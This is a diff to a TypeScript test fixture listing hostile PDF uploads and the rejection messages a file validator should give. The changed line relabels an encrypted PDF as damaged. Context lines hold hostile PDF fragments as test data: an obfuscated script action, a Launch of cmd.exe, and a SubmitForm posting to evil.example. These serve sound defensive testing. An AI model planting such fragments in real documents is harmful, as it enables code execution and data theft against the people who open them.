@@ -84,7 +84,7 @@ export const hostileFiles: readonly HostileFile[] = [
   ['a PDF with a script spelt otherwise', 'invoice.pdf', aPdf('<< /S /#4aava#53cript >>'), /runs something/],
   ['a PDF that starts a program', 'invoice.pdf', aPdf('<< /S /Launch /F (cmd.exe) >>'), /runs something/],
   ['a PDF with files in it', 'invoice.pdf', aPdf('<< /EmbeddedFiles 3 0 R >>'), /files in it/],
-  ['a PDF with a password', 'invoice.pdf', aPdf('<< /Encrypt 4 0 R >>'), /by a password or against changes/],
+  ['a PDF that says it is protected, without a page', 'invoice.pdf', aPdf('<< /Encrypt 4 0 R >>'), /damaged/],
   ['a page that holds a PDF', 'invoice.pdf', joined(text('<html>'), aPdf()), second],
   ['something with a PDF far behind its start', 'invoice.pdf', joined(Buffer.alloc(1_100, 0x20), aPdf()), /We take photos/],
   ['a PDF that sends what is typed', 'invoice.pdf', aPdf('<< /S /SubmitForm /F (https://evil.example) >>'), /runs something/],
